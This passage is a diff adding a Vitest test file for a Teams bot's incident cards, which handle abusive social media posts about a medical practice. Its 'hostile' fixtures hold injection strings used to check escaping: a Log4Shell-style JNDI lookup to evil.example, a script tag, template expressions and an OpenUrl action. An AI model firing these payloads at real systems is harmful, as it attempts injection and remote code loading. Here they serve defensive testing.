@@ -1,0 +1,905 @@
+import { describe, expect, it } from 'vitest';
+import { route, type Decision, type QuestionToReporter } from '../../src/domain/handling.ts';
+import type { Incident } from '../../src/domain/incident.ts';
+import { gradeReport, gradingFactsFrom, type Grading } from '../../src/domain/policy/grade.ts';
+import type { Finding } from '../../src/domain/policy/guard.ts';
+import type { EvidenceFile, ReportFacts } from '../../src/domain/report.ts';
+import { DEFAULT_POLICY } from '../../src/policy/default.ts';
+import { incidentCard, plainText, reporterQuestionCard, reporterUpdateCard, type IncidentCardOptions } from '../../src/views/index.ts';
+import { INCIDENT_INPUTS, INCIDENT_VERBS } from '../../src/views/verbs.ts';
+import {
+  INCIDENT_DATA_KEYS,
+  TEAMS_MAX_BYTES,
+  actions,
+  body,
+  bytes,
+  elements,
+  inputById,
+  inputs,
+  problems,
+  shape,
+  siblings,
+  textBlocks,
+  texts,
+  type Json,
+} from './cardChecks.ts';
+
+// ---- sample data --------------------------------------------------------------------------------
+
+const PRACTICE = 'Wickersley Medical Practice';
+const REPORTED_AT = '2026-11-03T14:20:00Z';
+const MANAGER = { aadObjectId: 'aad-manager', name: 'Pat Manager' };
+const DEPUTY = { aadObjectId: 'aad-deputy', name: 'Dee Deputy' };
+const DECIDER_IDS = ['29:1manager', '29:1deputy'];
+
+const SCREENSHOT: EvidenceFile = {
+  blobName: 'p1/d1/1.png',
+  fileName: 'facebook review.png',
+  contentType: 'image/png',
+  size: 245_760,
+  sha256: '9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08',
+  receivedAt: '2026-11-03T14:05:00Z',
+};
+
+const FACTS: ReportFacts = {
+  where: {
+    platform: 'facebook',
+    postUrl: 'https://www.facebook.com/groups/wickersley/posts/123456',
+    seenAt: '2026-11-03T13:45:00.000Z',
+    seenDate: '2026-11-03',
+    seenTime: '13:45',
+    authorName: 'Jay Smith',
+    authorRelationship: 'patient',
+  },
+  what: {
+    postText: 'Rudest receptionist ever at Wickersley surgery. She should be sacked.',
+    categories: ['personal-attack', 'names-staff'],
+    namedParties: ['practice', 'colleagues'],
+    namedColleagues: 'The receptionist on Monday morning',
+  },
+  risk: { atRisk: false },
+  evidence: { screenshots: [SCREENSHOT] },
+};
+
+/** A routed incident, graded by the default policy (version 1 after routing). */
+function routed(facts: ReportFacts = FACTS, prior = 0, extra: Partial<NonNullable<Incident['handling']>> = {}): Incident {
+  const reported: Incident = {
+    practiceId: 'wickersley',
+    reference: 'PW-2026-0042',
+    status: 'reported',
+    reportedAt: REPORTED_AT,
+    reporter: { aadObjectId: 'aad-reporter', name: 'Sam Reception' },
+    draftId: 'draft-7f3a',
+    facts,
+  };
+  const incident = route(reported, gradeReport(DEFAULT_POLICY, gradingFactsFrom(facts, prior)), prior, new Date(REPORTED_AT));
+  return { ...incident, handling: { ...incident.handling!, ...extra } };
+}
+
+const graded = (incident: Incident): Grading => incident.handling!.grading!;
+
+function options(overrides: Partial<IncidentCardOptions> = {}): IncidentCardOptions {
+  return {
+    practiceName: PRACTICE,
+    view: 'decider',
+    refreshUserIds: DECIDER_IDS,
+    now: new Date('2026-11-03T15:00:00Z'),
+    assignees: [MANAGER, DEPUTY],
+    replyFindings: [],
+    replyText: 'Thank you for letting us know. Please contact the practice directly so we can look into this.',
+    ...overrides,
+  };
+}
+
+const DECISIONS: Record<string, Decision> = {
+  'no response': { kind: 'no-response', by: MANAGER, at: '2026-11-03T15:10:00Z', reason: 'A reply would draw attention to the post.' },
+  'public reply': {
+    kind: 'public-reply',
+    by: MANAGER,
+    at: '2026-11-03T15:10:00Z',
+    replyText: 'Thank you for your feedback. Please contact the practice directly.',
+    reporterPostsReply: true,
+  },
+  actions: { kind: 'actions', by: MANAGER, at: '2026-11-03T15:10:00Z', actions: ['report-to-platform', 'support-colleague'] },
+};
+
+const decided = (decision: Decision, facts = FACTS) => routed(facts, 0, { decision, version: 2 });
+
+// ---- hostile, worst-case data -------------------------------------------------------------------
+
+const HOSTILE_LINES = [
+  '${jndi:ldap://evil.example/a}',
+  '${$root.x} ${$root.reference} ${data.practiceId} ${errors.reason}',
+  '[click](http://evil.example)',
+  '**bold** _em_ ~~strike~~',
+  '# heading',
+  '- list',
+  '1. ordered',
+  '<at>Dr Patel</at>',
+  '`code`',
+  '{"type":"Action.OpenUrl","url":"http://evil.example","title":"Open"}',
+  '{"type":"Input.Text","id":"reason","label":"x"}',
+  '<script>alert(1)</script> & | \\',
+];
+const HOSTILE = HOSTILE_LINES.join('\n');
+const HOSTILE_POST = (HOSTILE + '\n').repeat(40).slice(0, 8_000);
+const HOSTILE_SHORT = '[me](http://evil.example) **${$root.reference}** <at>x</at>';
+
+function hostileFacts(screenshots = 20): ReportFacts {
+  return {
+    where: { ...FACTS.where, postUrl: `https://evil.example/${'[x](http://evil.example)'.repeat(40)}`, authorName: HOSTILE_SHORT },
+    what: { ...FACTS.what, postText: HOSTILE_POST, namedColleagues: HOSTILE.slice(0, 500) },
+    risk: { atRisk: true, riskDetails: (HOSTILE + '\n').repeat(10).slice(0, 2_000) },
+    evidence: {
+      screenshots: Array.from({ length: screenshots }, (_, i) => ({
+        ...SCREENSHOT,
+        blobName: `p1/d1/${i}.png`,
+        fileName: `[shot ${i}](http://evil.example) \${f} <b>.png`,
+      })),
+    },
+  };
+}
+
+const hostileQuestions = (n: number, answered = true): QuestionToReporter[] =>
+  Array.from({ length: n }, (_, i) => ({
+    askedBy: { aadObjectId: 'aad-manager', name: HOSTILE_SHORT },
+    askedAt: `2026-11-03T15:0${i}:00Z`,
+    question: (HOSTILE + ' ').repeat(5).slice(0, 500),
+    ...(answered ? { answer: (HOSTILE + ' ').repeat(20).slice(0, 2_000), answeredAt: `2026-11-03T16:0${i}:00Z` } : {}),
+  }));
+
+const HOSTILE_REPLY = ('Thank you. Our patient [Dr Patel](http://evil.example) ${$root.x} <at>x</at> 01709 123456. ').repeat(12).slice(0, 1_000);
+
+function hostileFindings(reply: string): Finding[] {
+  const at = (needle: string) => reply.indexOf(needle);
+  return [
+    ...Array.from({ length: 6 }, (_, i): Finding => ({
+      rule: 'possible-staff-name',
+      severity: 'advisory',
+      message: `"${HOSTILE_SHORT}" looks like a person's name. ${'x'.repeat(150)} ${i}`,
+      start: i,
+      end: i + 10,
+    })),
+    { rule: 'confirms-patient-relationship', severity: 'blocking', message: '"Our patient" confirms that the person is a patient.', start: at('Our patient'), end: at('Our patient') + 11 },
+    { rule: 'staff-name', severity: 'blocking', message: `"[Dr Patel](http://evil.example)" names a member of staff.`, start: at('[Dr Patel]'), end: at('[Dr Patel]') + 31 },
+    { rule: 'phone-number', severity: 'blocking', message: '"01709 123456" is a phone number.', start: at('01709'), end: at('01709') + 12 },
+    { rule: 'too-long', severity: 'advisory', message: '160 words: the brief reply is at most 80.', start: 400, end: 1_000 },
+  ];
+}
+
+const ALL_ERRORS: Record<string, string> = Object.fromEntries(
+  Object.values(INCIDENT_INPUTS).map((id) => [id, `Problem with ${id}: [fix](http://evil.example) \${$root.x}`]),
+);
+
+function hostileIncident(opts: { decision?: Decision; questions?: number; screenshots?: number } = {}): Incident {
+  const incident = routed(hostileFacts(opts.screenshots), 3, {
+    questions: hostileQuestions(opts.questions ?? 6),
+    assignedTo: { aadObjectId: 'aad-deputy', name: HOSTILE_SHORT },
+    version: 7,
+    ...(opts.decision ? { decision: opts.decision } : {}),
+  });
+  return { ...incident, reporter: { aadObjectId: 'aad-reporter', name: HOSTILE_SHORT } };
+}
+
+function hostileOptions(view: IncidentCardOptions['view']): IncidentCardOptions {
+  return options({
+    view,
+    practiceName: '[Evil](http://evil.example) ${$root.reference}',
+    assignees: [{ aadObjectId: 'aad-deputy', name: HOSTILE_SHORT }, MANAGER],
+    replyText: HOSTILE_REPLY,
+    replyFindings: hostileFindings(HOSTILE_REPLY),
+    errors: ALL_ERRORS,
+    notice: { tone: 'attention', text: HOSTILE_SHORT },
+  });
+}
+
+/** Everything a person typed that ends up on the worst-case cards (their `${` is data). */
+const USER_TEXT = [
+  HOSTILE,
+  HOSTILE_POST,
+  HOSTILE_SHORT,
+  HOSTILE_REPLY,
+  '[Evil](http://evil.example) ${$root.reference}',
+  ...Object.values(ALL_ERRORS),
+  ...hostileFacts().evidence.screenshots.map((s) => s.fileName),
+];
+
+// ---- helpers ------------------------------------------------------------------------------------
+
+const showCards = (card: Json) => ((card.actions as Json[] | undefined) ?? []).filter((a) => a.type === 'Action.ShowCard');
+const showCard = (card: Json, title: string) => showCards(card).find((a) => a.title === title);
+const executes = (card: Json) => actions(card).filter((a) => a.type === 'Action.Execute');
+const decisionExecutes = (card: Json) => executes(card).filter((a) => a.verb !== INCIDENT_VERBS.refresh);
+const verbsIn = (node: Json) => executes(node).map((a) => a.verb);
+const section = (card: Json, id: string) => body(card).find((e) => e.type === 'Container' && e.id === id);
+const all = (card: Json) => texts(card).join('\n') + '\n' + JSON.stringify(elements(card).filter((e) => e.type === 'FactSet'));
+const fact = (card: Json, title: string) =>
+  elements(card)
+    .filter((e) => e.type === 'FactSet')
+    .flatMap((f) => f.facts as Array<{ title: string; value: string }>)
+    .find((f) => f.title === title)?.value;
+
+/** The incident contract: every Execute carries exactly the ids, with this version. */
+function expectIncidentData(card: Json, incident: Incident, version: number): void {
+  for (const a of executes(card)) {
+    expect(Object.keys(a.data as Json).sort()).toEqual([...INCIDENT_DATA_KEYS].sort());
+    expect(a.data).toEqual({ practiceId: incident.practiceId, reference: incident.reference, version });
+  }
+}
+
+/** Markdown that would still take effect in shown text. */
+function liveMarkdown(text: string): string[] {
+  return [...text.matchAll(/(^|[^\\])((?:\\\\)*)(\[click\]|\*\*bold|<script>|<at>|\[Evil\]|\[me\]|\[fix\]|\[shot|\[Dr Patel\])/gm)].map((m) => m[3]!);
+}
+
+// ---- every variant is a valid card ----------------------------------------------------------------
+
+describe('incident card: every variant is a valid Teams card', () => {
+  const variants: Array<[string, () => [Incident, IncidentCardOptions]]> = [
+    ['decider, undecided', () => [routed(), options()]],
+    ['read-only, undecided', () => [routed(), options({ view: 'readonly' })]],
+    ...Object.entries(DECISIONS).flatMap(([name, decision]): Array<[string, () => [Incident, IncidentCardOptions]]> => [
+      [`decider, decided (${name})`, () => [decided(decision), options()]],
+      [`read-only, decided (${name})`, () => [decided(decision), options({ view: 'readonly' })]],
+    ]),
+    ['decider, errors on every input', () => [routed(), options({ errors: ALL_ERRORS })]],
+    ['decider, blocking and advisory findings', () => [routed(), options({ replyText: HOSTILE_REPLY, replyFindings: hostileFindings(HOSTILE_REPLY) })]],
+    ['decider, at risk', () => [routed({ ...FACTS, risk: { atRisk: true, riskDetails: 'He said he would wait outside.' } }), options()]],
+    ['decider, not routed yet', () => [{ ...routed(), handling: undefined }, options()]],
+    ['decider, worst case', () => [hostileIncident(), hostileOptions('decider')]],
+    ['read-only, worst case', () => [hostileIncident(), hostileOptions('readonly')]],
+    ['decider, worst case, decided', () => [hostileIncident({ decision: { ...DECISIONS['public reply']!, replyText: HOSTILE_REPLY } }), hostileOptions('decider')]],
+    ['decider, worst case, 10 questions and 25 screenshots', () => [hostileIncident({ questions: 10, screenshots: 25 }), hostileOptions('decider')]],
+  ];
+
+  it.each(variants)('%s', (_, make) => {
+    const [incident, opts] = make();
+    const card = incidentCard(incident, opts);
+    expect(problems(card, { userText: USER_TEXT })).toEqual([]);
+    expect(bytes(card)).toBeLessThan(TEAMS_MAX_BYTES);
+    expect(card.version).toBe('1.5');
+    expect(card.$schema).toBe('http://adaptivecards.io/schemas/adaptive-card.json');
+    expect(card.refresh).toEqual({
+      action: { type: 'Action.Execute', title: 'Refresh', verb: INCIDENT_VERBS.refresh, data: { practiceId: incident.practiceId, reference: incident.reference, version: incident.handling?.version ?? 0 } },
+      userIds: DECIDER_IDS,
+    });
+    expectIncidentData(card, incident, incident.handling?.version ?? 0);
+    // Narrow phones: no columns anywhere.
+    expect(elements(card).filter((e) => e.type === 'ColumnSet')).toEqual([]);
+    const decisionTaken = incident.handling?.decision !== undefined;
+    if (opts.view === 'readonly' || decisionTaken) {
+      expect(inputs(card)).toEqual([]);
+      expect(decisionExecutes(card)).toEqual([]);
+      expect(showCards(card)).toEqual([]);
+    } else {
+      expect(inputs(card).length).toBeGreaterThan(0);
+      for (const verb of verbsIn(card)) expect(Object.values(INCIDENT_VERBS)).toContain(verb);
+    }
+  });
+
+  it('the worst case is cut to fit: the post is shortened, with a note, and the full text is kept', () => {
+    const card = incidentCard(hostileIncident(), hostileOptions('decider'));
+    expect(bytes(card)).toBeLessThan(TEAMS_MAX_BYTES);
+    const shown = texts(card).find((t) => t.startsWith(plainText(HOSTILE_POST.slice(0, 100))));
+    expect(shown).toBeDefined();
+    expect(shown!.length).toBeLessThan(plainText(HOSTILE_POST).length);
+    expect(texts(card).find((t) => t.startsWith('Showing the first'))).toMatch(/^Showing the first [\d,]+ of 8,000 characters\. The full text is kept\.$/);
+  });
+
+  it('10 questions and 25 screenshots: the most recent questions are shown and the rest counted, as are the screenshots', () => {
+    const card = incidentCard(hostileIncident({ questions: 10, screenshots: 25 }), hostileOptions('decider'));
+    const asked = texts(card).filter((t) => t.startsWith('Asked by '));
+    expect(asked.length).toBeGreaterThanOrEqual(3);
+    expect(asked.at(-1)).toMatch(/, 3 Nov 2026, 15:09$/);
+    if (asked.length < 10) expect(texts(card)).toContain(`${10 - asked.length} earlier questions and their answers are kept in the record.`);
+    const listed = texts(card).filter((t) => t.includes('SHA-256 9f86d081884c')).length;
+    expect(texts(card)).toContain(`And ${25 - listed} more screenshots, all saved.`);
+  });
+
+  it('a short post is shown whole, with no note', () => {
+    const card = incidentCard(routed(), options());
+    expect(texts(card)).toContain(plainText(FACTS.what.postText));
+    expect(all(card)).not.toContain('Showing the first');
+  });
+});
+
+// ---- the checker catches what it must, inside ShowCards too --------------------------------------
+
+describe('the card checker, on incident cards', () => {
+  const good = () => incidentCard(routed(), options());
+  const subBody = (c: Json) => ((showCards(c)[0]!.card as Json).body as Json[]);
+  const firstExecuteData = (c: Json) => (executes(c).find((a) => a.verb !== INCIDENT_VERBS.refresh)!.data as Json);
+  const broken: Array<[string, (c: Json) => void, RegExp]> = [
+    ['an unknown element inside a ShowCard', (c) => subBody(c).push({ type: 'Graph' }), /parse/],
+    ['a bad property inside a ShowCard', (c) => subBody(c).push({ type: 'TextBlock', text: 'x', size: 'Gigantic' }), /parse|validate/],
+    ['an input without an id inside a ShowCard', (c) => subBody(c).push({ type: 'Input.Text', label: 'X' }), /parse|validate/],
+    ['an unlabelled input inside a ShowCard', (c) => subBody(c).push({ type: 'Input.Text', id: 'x2' }), /has no label/],
+    ['a duplicate input id across ShowCards', (c) => subBody(c).push({ type: 'Input.Text', id: 'question', label: 'Again' }), /validate/],
+    ['an unknown verb inside a ShowCard', (c) => subBody(c).push({ type: 'ActionSet', actions: [{ type: 'Action.Execute', title: 'X', verb: 'incident.close', data: { practiceId: 'p', reference: 'r', version: 1 } }] }), /unknown verb/],
+    ['a role in action data', (c) => (firstExecuteData(c).role = 'manager'), /not exactly/],
+    ['a missing version', (c) => delete firstExecuteData(c).version, /not exactly|version/],
+    ['a version sent as text', (c) => (firstExecuteData(c).version = '1'), /version is not a whole number/],
+    ['report data on an incident verb', (c) => subBody(c).push({ type: 'ActionSet', actions: [{ type: 'Action.Execute', title: 'X', verb: INCIDENT_VERBS.ask, data: { draftId: 'd' } }] }), /not exactly/],
+    ['an OpenUrl action', (c) => (c.actions as Json[]).push({ type: 'Action.OpenUrl', title: 'X', url: 'https://evil.example' }), /only Action.Execute/],
+    ['a refresh with the wrong verb', (c) => ((c.refresh as Json).action = { type: 'Action.Execute', title: 'R', verb: 'report.next' }), /refresh/],
+    ['a refresh for 61 users', (c) => ((c.refresh as Json).userIds = Array.from({ length: 61 }, (_, i) => `29:${i}`)), /Teams takes 60/],
+    ['version 1.6', (c) => (c.version = '1.6'), /above what Teams renders/],
+    ['a template left unexpanded inside a ShowCard', (c) => subBody(c).push({ type: 'TextBlock', text: '${reason}' }), /unexpanded/],
+  ];
+  it('user text does not hide a template left unexpanded', () => {
+    const card = structuredClone(good());
+    body(card).push({ type: 'TextBlock', text: 'Reference ${reference}' });
+    expect(problems(card, { userText: USER_TEXT }).join('\n')).toMatch(/unexpanded/);
+    const shortened = structuredClone(good());
+    body(shortened).push({ type: 'TextBlock', text: plainText(HOSTILE.slice(0, 40)) + '…' });
+    expect(problems(shortened, { userText: USER_TEXT })).toEqual([]);
+  });
+  it('passes the good card', () => expect(problems(good())).toEqual([]));
+  it.each(broken)('catches %s', (_, breakIt, expected) => {
+    const card = structuredClone(good());
+    breakIt(card);
+    expect(problems(card).join('\n')).toMatch(expected);
+  });
+});
+
+// ---- header ---------------------------------------------------------------------------------------
+
+describe('incident card header', () => {
+  it('reference, practice, severity, status, reported, reporter and time to decide', () => {
+    const incident = routed();
+    const card = incidentCard(incident, options({ now: new Date('2026-11-03T14:40:00Z') }));
+    expect(textBlocks(card).find((t) => t.text === 'PW-2026-0042')).toMatchObject({ size: 'Large', weight: 'Bolder' });
+    expect(texts(card)).toContain(PRACTICE);
+    expect(texts(card)).toContain('Status: Awaiting decision');
+    expect(texts(card)).toContain('Reported 3 Nov 2026, 14:20 by Sam Reception');
+    const hours = graded(incident).decisionTargetHours;
+    const due = textBlocks(card).find((t) => String(t.text).startsWith('Decision due in'));
+    expect(hours).toBe(8); // personal attack naming staff: high under the default policy
+    expect(due?.text).toBe('Decision due in 7 h 40 min, by 3 Nov 2026, 22:20');
+  });
+
+  it.each([
+    ['2026-11-03T19:00:00Z', 'Decision due in 3 h 20 min, by 3 Nov 2026, 22:20', 'Default'],
+    ['2026-11-03T21:50:00Z', 'Decision due in 30 min, by 3 Nov 2026, 22:20', 'Warning'],
+    ['2026-11-03T22:20:00Z', 'Decision due now (3 Nov 2026, 22:20)', 'Attention'],
+    ['2026-11-03T23:25:00Z', 'Decision overdue by 1 h 5 min (due 3 Nov 2026, 22:20)', 'Attention'],
+  ])('at %s: "%s"', (now, text, color) => {
+    const card = incidentCard(routed(), options({ now: new Date(now) }));
+    expect(textBlocks(card).find((t) => String(t.text).startsWith('Decision '))).toMatchObject({ text, color });
+  });
+
+  it.each([
+    ['critical', 'Attention'],
+    ['high', 'Attention'],
+    ['medium', 'Warning'],
+    ['low', 'Default'],
+  ] as const)('%s severity in %s colour', (severity, color) => {
+    const incident = routed();
+    const card = incidentCard({ ...incident, handling: { ...incident.handling!, grading: { ...graded(incident), severity } } }, options());
+    const label = severity.charAt(0).toUpperCase() + severity.slice(1) + ' severity';
+    expect(textBlocks(card).find((t) => t.text === label)).toMatchObject({ color, weight: 'Bolder' });
+  });
+
+  it('URGENT banner at the very top when someone may be at risk, above a notice', () => {
+    const card = incidentCard(routed({ ...FACTS, risk: { atRisk: true } }), options({ notice: { tone: 'good', text: 'Reply checked.' } }));
+    expect(body(card)[0]).toMatchObject({ type: 'Container', style: 'attention' });
+    expect(texts(body(card)[0]!)[0]).toBe('URGENT: someone may be at risk');
+    expect(texts(body(card)[1]!)).toEqual(['Reply checked.']);
+    expect(fact(card, 'Anyone at risk')).toBe('Yes: someone may be at risk of harm');
+  });
+
+  it('no URGENT banner otherwise', () => {
+    expect(all(incidentCard(routed(), options()))).not.toContain('URGENT');
+  });
+
+  it.each(Object.entries(DECISIONS))('once decided (%s): who, when and what, in place of the time left', (name, decision) => {
+    const incident = decided(decision);
+    for (const view of ['decider', 'readonly'] as const) {
+      const card = incidentCard(incident, options({ view }));
+      const label = { 'no response': 'No response', 'public reply': 'Brief public reply approved', actions: 'Actions chosen' }[name];
+      expect(texts(card)).toContain(`Decided by Pat Manager on 3 Nov 2026, 15:10: ${label}`);
+      expect(all(card)).not.toMatch(/Decision (due|overdue)/);
+    }
+    const details = texts(incidentCard(incident, options()));
+    if (decision.kind === 'no-response') expect(details).toContain('Reason: A reply would draw attention to the post.');
+    if (decision.kind === 'public-reply') expect(details).toEqual(expect.arrayContaining([`Approved reply: ${decision.replyText}`, 'The reporter is asked to post it.']));
+    if (decision.kind === 'actions') expect(details).toContain('Actions: Report the post to the platform; Support the colleague who was targeted');
+  });
+
+  it('shows who it is assigned to', () => {
+    expect(texts(incidentCard(routed(FACTS, 0, { assignedTo: DEPUTY }), options()))).toContain('Assigned to Dee Deputy');
+  });
+
+  it('version in the action data is the handling version, 0 for an incident not yet routed', () => {
+    const card = incidentCard(routed(FACTS, 0, { version: 12 }), options());
+    expectIncidentData(card, routed(), 12);
+    const unrouted = { ...routed(), handling: undefined };
+    const card0 = incidentCard(unrouted, options());
+    expectIncidentData(card0, unrouted, 0);
+    expect(texts(card0)).toContain('Not graded yet');
+  });
+});
+
+// ---- evidence -------------------------------------------------------------------------------------
+
+describe('incident card evidence', () => {
+  it('platform, link as escaped text, seen, author and who they are', () => {
+    const url = 'https://evil.example/[click](http://evil.example)';
+    const card = incidentCard(routed({ ...FACTS, where: { ...FACTS.where, postUrl: url } }), options());
+    expect(fact(card, 'Platform')).toBe('Facebook');
+    expect(fact(card, 'Link')).toBe(plainText(url));
+    expect(fact(card, 'Seen')).toBe('Tue 3 Nov 2026, 13:45');
+    expect(fact(card, 'Author')).toBe('Jay Smith');
+    expect(fact(card, 'Who the author is')).toBe('Patient');
+    expect(actions(card).filter((a) => a.type === 'Action.OpenUrl')).toEqual([]);
+  });
+
+  it.each([
+    [0, 'First post by this author', 'Default'],
+    [1, '1 earlier incident by this author — possible harassment (BMA)', 'Attention'],
+    [2, '2 earlier incidents by this author — possible harassment (BMA)', 'Attention'],
+  ])('%i earlier incidents: "%s"', (prior, text, color) => {
+    const card = incidentCard(routed(FACTS, prior), options());
+    expect(textBlocks(card).find((t) => t.text === text)).toMatchObject({ color });
+  });
+
+  it('an unnamed author cannot be matched with earlier posts', () => {
+    const card = incidentCard(routed({ ...FACTS, where: { ...FACTS.where, authorName: undefined } }), options());
+    expect(fact(card, 'Author')).toBe('Not given');
+    expect(texts(card)).toContain('Author not known, so earlier posts cannot be matched');
+  });
+
+  it('categories, who is named, risk answer and details', () => {
+    const card = incidentCard(routed({ ...FACTS, risk: { atRisk: false, riskDetails: '**not** really' } }), options());
+    expect(fact(card, 'What it does')).toBe('Personal attack or insult, Names or identifies staff');
+    expect(fact(card, 'Who it names')).toBe('The practice, Named colleagues');
+    expect(fact(card, 'Colleagues named')).toBe('The receptionist on Monday morning');
+    expect(fact(card, 'Anyone at risk')).toBe('No');
+    expect(fact(card, 'Risk details')).toBe('\\*\\*not\\*\\* really');
+  });
+
+  it('screenshots: file name, size and the first 12 hex of the SHA-256', () => {
+    const card = incidentCard(routed(), options());
+    expect(texts(card)).toContain('1 screenshot, saved with their SHA-256 hashes');
+    expect(texts(card)).toContain('facebook review.png — 240 KB, received 3 Nov 2026, 14:05, SHA-256 9f86d081884c');
+  });
+
+  it('20 screenshots are listed; more are counted', () => {
+    const twenty = incidentCard(hostileIncident({ screenshots: 20 }), hostileOptions('readonly'));
+    expect(texts(twenty).filter((t) => t.includes('SHA-256 9f86d081884c'))).toHaveLength(20);
+    expect(all(twenty)).not.toContain('more screenshot');
+    const many = incidentCard(hostileIncident({ screenshots: 25 }), hostileOptions('readonly'));
+    expect(texts(many).filter((t) => t.includes('SHA-256 9f86d081884c'))).toHaveLength(20);
+    expect(texts(many)).toContain('And 5 more screenshots, all saved.');
+  });
+
+  it('no screenshot: the reason, escaped', () => {
+    const card = incidentCard(routed({ ...FACTS, evidence: { screenshots: [], noScreenshotReason: '[deleted](http://evil.example)' } }), options());
+    expect(texts(card)).toContain('No screenshot: \\[deleted\\](http://evil.example)');
+  });
+
+  it('questions to the reporter with their answers, in order', () => {
+    const questions: QuestionToReporter[] = [
+      { askedBy: MANAGER, askedAt: '2026-11-03T15:00:00Z', question: 'Did you see who posted it?', answer: 'Yes, **Jay**.', answeredAt: '2026-11-03T15:30:00Z' },
+      { askedBy: DEPUTY, askedAt: '2026-11-03T16:00:00Z', question: 'Is it still up?' },
+    ];
+    const card = incidentCard(routed(FACTS, 0, { questions }), options({ view: 'readonly' }));
+    const list = texts(card);
+    const start = list.indexOf('Questions to the reporter');
+    expect(start).toBeGreaterThan(0);
+    expect(list.slice(start + 1, start + 7)).toEqual([
+      'Asked by Pat Manager, 3 Nov 2026, 15:00',
+      'Did you see who posted it?',
+      'Answer (3 Nov 2026, 15:30): Yes, \\*\\*Jay\\*\\*.',
+      'Asked by Dee Deputy, 3 Nov 2026, 16:00',
+      'Is it still up?',
+      'Not answered yet.',
+    ]);
+  });
+
+  it('no questions section when none were asked', () => {
+    expect(texts(incidentCard(routed(), options()))).not.toContain('Questions to the reporter');
+  });
+});
+
+// ---- grading --------------------------------------------------------------------------------------
+
+describe('incident card grading', () => {
+  it('recommended actions in order, each with its reason and a short source', () => {
+    const incident = routed({ ...FACTS, risk: { atRisk: true } }, 2);
+    const grading = graded(incident);
+    expect(grading.actions.length).toBeGreaterThan(2);
+    const card = incidentCard(incident, options());
+    const list = texts(card);
+    let last = -1;
+    grading.actions.forEach((a, i) => {
+      const at = list.indexOf(plainText(`${i + 1}. ${a.title}`));
+      expect(at).toBeGreaterThan(last);
+      expect(list[at + 1]).toBe(plainText(a.reason));
+      expect(list[at + 2]).toMatch(/^Source: /);
+      expect(list[at + 2]!.length).toBeLessThan(140);
+      last = at;
+    });
+    expect(list).toContain('Critical severity: decide within 1 h of the report. ' + `${grading.actions.length} recommended actions, most important first.`);
+  });
+
+  it('sources name the document and section', () => {
+    const card = incidentCard(routed(), options());
+    expect(texts(card).filter((t) => t.startsWith('Source: '))).toEqual(expect.arrayContaining([expect.stringMatching(/^Source: (LMC guidance|Millbrook Medical Centre|Wickersley Medical Practice|Cockhedge Medical Centre|BMA), /)]));
+  });
+
+  it('policy warnings, in warning colour', () => {
+    const incident = routed({ ...FACTS, risk: { atRisk: true } });
+    const warnings = graded(incident).warnings;
+    expect(warnings.length).toBeGreaterThan(0);
+    const card = incidentCard(incident, options({ view: 'readonly' }));
+    for (const w of warnings) expect(textBlocks(card).find((t) => t.text === plainText(w.text))).toMatchObject({ color: 'Warning' });
+  });
+});
+
+// ---- deciding -------------------------------------------------------------------------------------
+
+describe('incident card decider view', () => {
+  const SECTIONS: Array<[string, string[], string[]]> = [
+    ['No response', [INCIDENT_INPUTS.reason], [INCIDENT_VERBS.noResponse]],
+    ['Public reply', [INCIDENT_INPUTS.replyText, INCIDENT_INPUTS.reporterPostsReply], [INCIDENT_VERBS.checkReply, INCIDENT_VERBS.approveReply]],
+    ['Choose actions', [INCIDENT_INPUTS.actions], [INCIDENT_VERBS.chooseActions]],
+    ['Assign', [INCIDENT_INPUTS.assignee], [INCIDENT_VERBS.assign]],
+    ['Ask the reporter', [INCIDENT_INPUTS.question], [INCIDENT_VERBS.ask]],
+  ];
+
+  it('five collapsed sections, each with its own inputs and verbs', () => {
+    const card = incidentCard(routed(), options());
+    expect(showCards(card).map((a) => a.title)).toEqual(SECTIONS.map(([title]) => title));
+    for (const [title, ids, verbs] of SECTIONS) {
+      const sub = showCard(card, title)!.card as Json;
+      expect(inputs(sub).map((i) => i.id)).toEqual(ids);
+      expect(verbsIn(sub)).toEqual(verbs);
+    }
+    // Nothing to decide with sits outside the sections.
+    expect(inputs({ body: body(card) })).toEqual([]);
+    expect(texts(card)).toContain('Your decision');
+  });
+
+  it('action titles are plain', () => {
+    const card = incidentCard(routed(), options());
+    expect(executes(card).map((a) => a.title)).toEqual(['Refresh', 'Confirm no response', 'Check reply', 'Approve reply', 'Record actions', 'Assign', 'Send question']);
+  });
+
+  it('no response: a required reason', () => {
+    const reason = inputById(incidentCard(routed(), options()), INCIDENT_INPUTS.reason)!;
+    expect(reason).toMatchObject({ type: 'Input.Text', isRequired: true, isMultiline: true, maxLength: 500 });
+    expect(String(reason.label)).toMatch(/\(required\)$/);
+  });
+
+  it('public reply: the box holds the reply text exactly, with the toggle to ask the reporter to post it', () => {
+    const card = incidentCard(routed(), options({ replyText: HOSTILE_REPLY }));
+    expect(inputById(card, INCIDENT_INPUTS.replyText)).toMatchObject({ type: 'Input.Text', isMultiline: true, isRequired: true, maxLength: 1000, value: HOSTILE_REPLY });
+    expect(inputById(card, INCIDENT_INPUTS.reporterPostsReply)).toMatchObject({
+      type: 'Input.Toggle',
+      title: 'Ask the reporter to post this reply',
+      valueOn: 'true',
+      valueOff: 'false',
+    });
+  });
+
+  it('choose actions: every recommended action, in order, ticked freely', () => {
+    const incident = routed();
+    const choiceSet = inputById(incidentCard(incident, options()), INCIDENT_INPUTS.actions)!;
+    expect(choiceSet).toMatchObject({ type: 'Input.ChoiceSet', isMultiSelect: true, style: 'expanded', isRequired: true });
+    expect(choiceSet.choices).toEqual(graded(incident).actions.map((a) => ({ title: a.title, value: a.id })));
+  });
+
+  it('assign: the deputies and managers given, by name; the current assignee chosen', () => {
+    const choiceSet = inputById(incidentCard(routed(FACTS, 0, { assignedTo: DEPUTY }), options()), INCIDENT_INPUTS.assignee)!;
+    expect(choiceSet.choices).toEqual([
+      { title: 'Pat Manager', value: 'aad-manager' },
+      { title: 'Dee Deputy', value: 'aad-deputy' },
+    ]);
+    expect(choiceSet.value).toBe('aad-deputy');
+  });
+
+  it('no Assign section when there is nobody to assign to', () => {
+    const card = incidentCard(routed(), options({ assignees: [] }));
+    expect(showCard(card, 'Assign')).toBeUndefined();
+    expect(verbsIn(card)).not.toContain(INCIDENT_VERBS.assign);
+  });
+
+  it('ask the reporter: a required question', () => {
+    const question = inputById(incidentCard(routed(), options()), INCIDENT_INPUTS.question)!;
+    expect(question).toMatchObject({ type: 'Input.Text', isRequired: true, isMultiline: true, maxLength: 500 });
+  });
+
+  describe('an error on an input: shown beneath it, with its section open in the body', () => {
